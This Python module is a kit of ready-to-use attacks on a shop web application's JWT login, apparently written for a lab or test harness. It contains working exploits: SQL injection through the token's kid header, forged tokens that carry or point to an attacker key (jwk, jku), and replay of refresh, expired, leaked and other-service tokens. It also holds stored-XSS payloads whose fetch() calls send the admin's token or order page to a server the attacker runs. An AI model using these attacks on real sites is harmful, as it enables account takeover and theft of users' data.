"""Attacks that are ready to use, in the form of those that you write. Each gives the response that it got."""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from types import SimpleNamespace
from urllib.parse import quote

import jwt
import requests
from cryptography.hazmat.primitives.asymmetric.ec import SECP256R1, generate_private_key
from jwt.algorithms import ECAlgorithm
from loot import ADMIN, Loot, claims_of, encoded, forged, present

MY_KEY = generate_private_key(SECP256R1())
MY_PUBLIC_KEY = ECAlgorithm.to_jwk(MY_KEY.public_key(), as_dict=True) | {"alg": "ES256", "kid": "mine"}
# What we write where the shop may show it to the admin. Nobody has such a picture, so the script runs.
CARRIES_OUT = """<img src="" onerror="fetch('%s', {method: 'POST', mode: 'no-cors', body: localStorage.access || ''})">"""
RIDES_ALONG = """<img src="" onerror="fetch('/orders/').then(got => got.ok && got.text())
.then(body => fetch('%s', {method: 'POST', mode: 'no-cors', body: body || ''}))">"""
TOKEN = re.compile(r"[\w-]+\.[\w-]+\.[\w-]{20,}")


def kid_as_sql(loot: Loot) -> requests.Response:
    """The name of the key is a piece of SQL, and what it selects is a key of ours."""
    return present(loot, forged(loot, b"mine", alg="HS256", kid="none' UNION SELECT 'mine"))


def jwk(loot: Loot) -> requests.Response:
    """The token brings along the public key that it is to be verified with."""
    return present(loot, signed_by_me(loot, jwk=MY_PUBLIC_KEY))


def jku(loot: Loot) -> requests.Response:
    """The token names the address where its public key lies: a server of ours."""
    with stranger(json.dumps({"keys": [MY_PUBLIC_KEY]})) as ours:
        return present(loot, signed_by_me(loot, jku=ours.address))


def edited_payload(loot: Loot) -> requests.Response:
    """The payload says another user, and the signature is as it was."""
    header, _, old_signature = loot.access.split(".")
    return present(loot, f"{header}.{encoded(claims_of(loot.access) | ADMIN)}.{old_signature}")


def other_service(loot: Loot) -> requests.Response:
    """A good token of another service, which signs with the same key. There, user 1 is somebody else."""
    return present(loot, loot.other_service)


def refresh_as_access(loot: Loot) -> requests.Response:
    """The refresh token in the place of the access token: it lives a day instead of minutes."""
    return present(loot, loot.refresh, "/user-orders/")


def expired(loot: Loot) -> requests.Response:
    """The token of yesterday, once more."""
    return present(loot, loot.expired, "/user-orders/")


def token_in_log(loot: Loot) -> requests.Response:
    """Whatever looks like a token in the log; else a token in an address, from where it would get into logs."""
    found = TOKEN.findall(loot.log)
    got = present(loot, found[-1] if found else "")
    return got if got.ok else requests.get(f"{loot.url}/user-orders/?token={loot.access}", timeout=10)


def local_storage(loot: Loot) -> requests.Response:
    """A script of ours in the admin's page sends us the token that the page keeps in localStorage."""
    with stranger() as ours:
        leave(loot, CARRIES_OUT % ours.address)
        return present(loot, ours.holds)


def cookie(loot: Loot) -> requests.Response:
    """From an HttpOnly cookie it can read nothing. It asks for the orders, with the cookie, and sends us the response."""
    with stranger() as ours:
        leave(loot, RIDES_ALONG % ours.address)
        return requests.get(ours.address, timeout=10) if ours.holds else present(loot, "")


def leave(loot: Loot, script: str) -> None:
    """Write it into the guest book, where there is one; else into an address, which the page for a 404 repeats."""
    written = requests.post(f"{loot.url}/guest-book/", data={"entry": script}, timeout=10)
    loot.admin_opens("/guest-book/" if written.ok else f"/guest-book/{quote(script, safe='')}")


def signed_by_me(loot: Loot, **header: object) -> str:
    """The own access token, rewritten to be the admin's and signed with a key pair of ours."""
    claims = claims_of(loot.access) | ADMIN
    return jwt.encode(claims, MY_KEY, algorithm="ES256", headers={"kid": "mine"} | header)


@contextmanager
def stranger(holds: str = "") -> Iterator[SimpleNamespace]:
    """A small server of ours on this machine: its `address`, and the text that it `holds`: this, or what came last."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(ours.holds.encode())

        def do_POST(self) -> None:
            ours.holds = self.rfile.read(int(self.headers["Content-Length"])).decode()
            self.do_GET()

        def log_message(self, *_args: object) -> None:
            """Says nothing."""

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        ours = SimpleNamespace(address=f"http://127.0.0.1:{server.server_port}/", holds=holds)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield ours
        server.shutdown()
